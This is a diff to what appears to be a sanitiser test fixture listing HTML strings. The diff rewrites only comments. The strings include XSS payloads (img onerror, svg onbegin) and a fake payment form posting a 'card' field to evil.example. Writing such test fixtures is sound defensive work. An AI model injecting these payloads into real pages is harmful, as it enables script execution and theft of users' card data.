@@ -1,4 +1,4 @@
-/** HTML that runs `hit()` by itself, one way each, where nobody cleans it. */
+/** Unsanitised HTML that runs `hit()`, one way each. */
 export const running: readonly string[] = [
   '<img src=x onerror="hit()">',
   '<svg><animate onbegin="hit()" attributeName="x" dur="1s"></svg>',
@@ -21,7 +21,7 @@ export const running: readonly string[] = [
   '<svg><foreignObject><img src=x onerror="hit()"></foreignObject></svg>',
 ]
 
-/** HTML that changes more than itself, asks strangers, or runs in some browser or place alone. */
+/** HTML that affects other content, makes requests to other sites, or only runs in some browsers. */
 export const reaching: readonly string[] = [
   '<form action="https://evil.example/take"><input name="card"><button>Pay</button></form>',
   '<input form="outside" name="x"><textarea></textarea><select><option>x</option></select>',
